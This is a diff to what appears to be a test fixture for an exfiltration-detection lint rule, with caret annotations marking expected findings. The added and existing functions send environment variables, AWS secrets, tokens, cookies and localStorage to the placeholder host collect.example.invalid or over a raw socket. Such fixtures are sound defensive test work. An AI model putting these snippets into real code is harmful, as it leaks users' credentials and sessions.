@@ -46,8 +46,6 @@ axios.post('https://collect.example.invalid/t', { aws: process.env.AWS_SECRET_AC
 navigator.sendBeacon('https://collect.example.invalid/c', document.cookie);
 //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error
 
-new Image().src = 'https://collect.example.invalid/i';
-
 export function keep(): void {
   const socket = net.connect(8080, '192.0.2.7');
   socket.write(JSON.stringify(Object.entries(process.env)));
@@ -65,4 +63,22 @@ export function session(): void {
   call.open('POST', 'https://collect.example.invalid/s');
   call.send(JSON.stringify(localStorage));
   //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
+}
+
+export async function everything(): Promise<void> {
+  let text = '';
+  for (const name in process.env) text += `${name}=${process.env[name]}\n`;
+  await fetch('https://collect.example.invalid/e', { method: 'POST', body: text });
+//      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
+}
+
+export function chosen(): void {
+  const found = Object.fromEntries(Object.entries(process.env).filter(([name]) => /TOKEN|KEY/.test(name)));
+  axios.post('https://collect.example.invalid/e', found);
+  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
+}
+
+export function picture(): void {
+  new Image().src = `https://collect.example.invalid/i?c=${document.cookie}`;
+  //          ^^^^ todo: exfiltration
 }
